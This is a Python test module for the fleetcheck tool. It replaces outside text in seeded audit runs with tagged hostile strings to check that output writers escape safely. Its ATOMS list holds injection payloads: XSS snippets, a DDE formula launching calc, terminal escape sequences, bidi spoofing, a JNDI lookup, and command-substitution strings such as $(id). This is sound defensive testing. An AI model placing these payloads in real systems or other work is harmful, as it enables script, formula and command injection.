"""Runs whose every text fleetcheck does not control is hostile, one per seed.

A seeded `xformat_runs.random_run` (real policies, real `judge_run`) with the text that comes
from outside replaced: from hosts (process and user names, containers, images, pods, OS
names, tool output, error messages, notes), from the inventory (host names, addresses, group
names), from policy and waiver files (rule and policy names, waiver ids, reasons, owners,
tickets, approvers, justifications, patterns, paths) and from the command line (argv, input
paths, warnings). Each hostile value is drawn from `ATOMS` (markup of every output format,
spreadsheet formulas, terminal escapes, bidi and zero-width characters, XML-illegal and
unpaired surrogate code points, line ends of every kind, very long text) and carries a
unique tag, so a reader can find it in any output and the same name stays one name
wherever the run refers to it (a waiver id in its findings, a host name in `changes`).
"""

from __future__ import annotations

import dataclasses
import random
import re
from typing import Any

from fleetcheck.model import (
    CommandRecord,
    Container,
    Finding,
    HostError,
    HostResult,
    InputFile,
    JudgedListener,
    Listener,
    RunResult,
    TrustedKey,
    WaiverRecord,
)
from fleetcheck.model.changes import Changes, HostFinding
from tests.outputs.xformat_runs import random_run

ATOMS = (
    # HTML and script
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>',
    "'><a href=\"javascript:alert(1)\">x</a>", "</script><script>alert(2)</script>",
    "<!--", "-->", "<![CDATA[x]]>", "]]>", "&amp;", "&#x3c;b&#62;", "&lt;i&gt;",
    "<style>*{display:none}</style>", "<meta http-equiv=refresh content=0;url=http://e.x/>",
    "{{ 7*7 }}", "{% raw %}", "${7*7}",
    # Markdown, links and URLs
    "[x](javascript:alert(1))", "![x](http://e.x/p.png)", "<http://e.x/auto>",
    "http://e.x/bare", "https://e.x/a?b=c", "www.e.x", "mail@e.x", "javascript:alert(1)",
    "data:text/html,<script>alert(3)</script>", "[ref]: http://e.x/r", "[ref]", "[^1]",
    "| a | b |", "|", "`tick`", "```", "~~~", "**bold**", "__u__", "_i_", "~~s~~", "# head",
    "> quote", "- item", "1. item", "---", "===", "\\", "\\|", "<b>", "</td></tr>",
    ":warning:", "@someone", "#123",
    # spreadsheet formulas
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "=HYPERLINK(\"http://e.x\")",
    "\t=1", "\r=1", "\n=1", " =1", "\uff1d1+1",
    # terminal: escapes, C0 and C1 controls
    "\x1b[31mred\x1b[0m", "\x1b]8;;http://e.x\x1b\\link\x1b]8;;\x1b\\", "\x1b]52;c;SGk=\x07",
    "\x9b31m", "\x9d0;t\x9c", "\x00", "\x07", "\x08\x08", "\x0b", "\x0c", "\x7f", "\x85",
    "\x1b", "\x1f",
    # bidi, zero-width, odd code points
    "\u202egnp.exe", "\u2066iso\u2069", "\u2067", "\u2068", "\u200e", "\u200f", "\u061c",
    "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u2028", "\u2029", "\ufffe",
    "\uffff", "\ufffd", "\U0001f600", "名前", "e\u0301", "\u0000",
    # line ends
    "\n", "\r\n", "\r", "\n\n", "a\nb", "\t",
    # JSON and quoting
    '"', "'", '\\"', '"}]}', "\\u0000", "\\ud800", "NaN", "null", "%s%n", "$(id)",
    "`id`", "${jndi:ldap://e.x/a}",
)
TAG = re.compile(r"T\d{3}Z")  # each hostile text's own mark (`hostile`)
SURROGATES = ("\ud800", "\udfff", "\udcff")  # what a host's invalid UTF-8 decodes to
LONG = 5000


def hostile(rng: random.Random, tag: str, surrogates: bool = False) -> str:
    """A hostile text around `tag`: one to three atoms, sometimes very long."""
    pool = ATOMS + (SURROGATES if surrogates else ())
    parts = [rng.choice(pool) for _ in range(rng.randint(1, 3))]
    if rng.random() < 0.04:
        parts.append("L" * LONG)
    parts.insert(rng.randint(0, len(parts)), tag)
    return "".join(parts)


@dataclasses.dataclass
class Hostile:
    """The substitution of one run: each original text and its hostile stand-in."""

    rng: random.Random
    rate: float
    surrogates: bool
    names: dict[str, str] = dataclasses.field(default_factory=dict)

    def __call__(self, value: str | None) -> str | None:
        """`value`'s stand-in (the same one wherever it occurs), or `value` untouched."""
        if value is None:
            return None
        if value not in self.names:
            take = self.rng.random() < self.rate
            self.names[value] = hostile(self.rng, f"T{len(self.names):03d}Z",
                                        self.surrogates) if take else value
        return self.names[value]

    def many(self, values: tuple[str, ...]) -> tuple[str, ...]:
        """Each of `values` substituted."""
        return tuple(self(v) or "" for v in values)


def _container(h: Hostile, c: Container | None) -> Container | None:
    if c is None:
        return None
    return dataclasses.replace(c, name=h(c.name), image=h(c.image), pod=h(c.pod),
                               k8s_namespace=h(c.k8s_namespace))


def _listener(h: Hostile, jl: JudgedListener) -> JudgedListener:
    li: Listener = jl.listener
    li = dataclasses.replace(li, process=h(li.process), user=h(li.user),
                             other_processes=h.many(li.other_processes),
                             service=h(li.service), owner_note=h(li.owner_note),
                             container=_container(h, li.container))
    return dataclasses.replace(jl, listener=li, rule=h(jl.rule))


def _finding(h: Hostile, f: Finding) -> Finding:
    return dataclasses.replace(f, process=h(f.process), rule=h(f.rule), message=h(f.message) or "",
                               waiver=h(f.waiver), container=_container(h, f.container))


def _command(h: Hostile, c: CommandRecord) -> CommandRecord:
    return dataclasses.replace(c, command=h(c.command) or "", stdout=h(c.stdout) or "",
                               stderr=h(c.stderr) or "")


def _host(h: Hostile, host: HostResult) -> HostResult:
    error = HostError(host.error.kind, h(host.error.message) or "") if host.error else None
    keys = tuple(TrustedKey(h(k.host) or "", k.key_type, k.fingerprint, h(k.file) or "",
                            k.unchecked) for k in host.trusted_keys)
    return dataclasses.replace(
        host, name=h(host.name) or "", address=h(host.address) or "",
        groups=h.many(host.groups), os=h(host.os), distribution=h(host.distribution),
        error=error, listeners=tuple(_listener(h, jl) for jl in host.listeners),
        findings=tuple(_finding(h, f) for f in host.findings),
        commands=tuple(_command(h, c) for c in host.commands),
        notes=h.many(host.notes),  # policies keep their names: identifiers, checked on load
        waivers=h.many(host.waivers), trusted_keys=keys)


def _waiver(h: Hostile, w: WaiverRecord) -> WaiverRecord:
    return dataclasses.replace(
        w, id=h(w.id) or "", reason=h(w.reason) or "", owner=h(w.owner) or "",
        created=w.created or "2026-01-01", expires=w.expires or "2027-06-30",
        ticket=h(w.ticket or "CHG-9"), approved_by=h(w.approved_by or "sec-team"),
        justification=h(w.justification or "the business needs it"), hosts=h(w.hosts),
        process=h(w.process), path=h(w.path))


def _meta(h: Hostile, meta: dict[str, Any]) -> dict[str, Any]:
    out = dict(meta)
    out["command_line"] = [h(a) for a in meta.get("command_line", [])]
    out["warnings"] = [h(w) for w in meta.get("warnings", [])]
    out["user"], out["hostname"] = h(meta.get("user")), h(meta.get("hostname"))
    out["policies"] = [h(p) for p in meta.get("policies", [])]
    return out


def _changes(h: Hostile, c: Changes | None) -> Changes | None:
    if c is None:
        return None
    return dataclasses.replace(c, fixed=tuple(
        HostFinding(h(f.host) or "", _finding(h, f.finding), f.last_seen) for f in c.fixed))


def hostile_run(seed: int, rate: float = 0.6, surrogates: bool = False) -> RunResult:
    """`random_run(seed)` with a `rate` share of its outside text made hostile (lone
    surrogates among the atoms when `surrogates`: what no UTF-8 writer can write)."""
    run = random_run(seed)
    h = Hostile(random.Random(seed * 7919 + 1), rate, surrogates)  # noqa: S311 -- test data
    hosts = [_host(h, host) for host in run.hosts]
    # Host names stay unique (a stand-in is unique by its tag): the run's order is by name.
    return dataclasses.replace(
        run, hosts=tuple(sorted(hosts, key=lambda x: x.name)),
        inputs=tuple(InputFile(i.kind, h(i.path) or "", i.sha256) for i in run.inputs),
        waivers=tuple(_waiver(h, w) for w in run.waivers), meta=_meta(h, run.meta),
        changes=_changes(h, run.changes))


def stand_ins(run: RunResult) -> list[str]:
    """Every hostile text in `run` (found by its tag), for the readers' visibility checks."""
    found: list[str] = []

    def walk(value: Any) -> None:
        if isinstance(value, str):
            if TAG.search(value):
                found.append(value)
        elif isinstance(value, dict):
            for k, v in value.items():
                walk(k)
                walk(v)
        elif isinstance(value, list | tuple):
            for v in value:
                walk(v)
        elif dataclasses.is_dataclass(value) and not isinstance(value, type):
            for f in dataclasses.fields(value):
                walk(getattr(value, f.name))

    walk(run)
    return list(dict.fromkeys(found))
